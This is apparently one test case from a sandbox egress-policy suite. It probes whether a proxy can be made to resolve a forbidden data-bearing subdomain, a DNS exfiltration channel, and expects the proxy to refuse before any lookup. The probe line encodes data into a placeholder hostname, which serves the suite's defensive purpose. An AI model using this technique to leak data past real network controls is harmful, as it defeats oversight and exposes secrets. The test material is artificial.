ID = 'dns.proxy-resolution'
CATEGORY = 'dns'
DESCRIPTION = 'make the egress proxy resolve <data>.probe.test (a name the policy does not allow)'
CLAIMS = ('rule:network.mode',)
POLICY = {'network': {'mode': 'allow', 'allow': ['ok.{DOMAIN}:{SINK_PORT}'], 'allow_private': ['{CIDR}'], 'nameservers': ['{DNS_HOST}:{DNS_PORT}']}}
CODE = r"""
st = via_proxy(f"http://{DATA}.proxy.{DOMAIN}:{SINK_PORT}/")
out("DENIED", f"proxy: {st}; whether it resolved is seen in the DNS log")
"""
CONTROL = {'policy': {'network': {'allow': ['*.{DOMAIN}:{SINK_PORT}']}}}
CONTAINED = 'the proxy refuses before any DNS query: the DNS sink sees no query with the data'
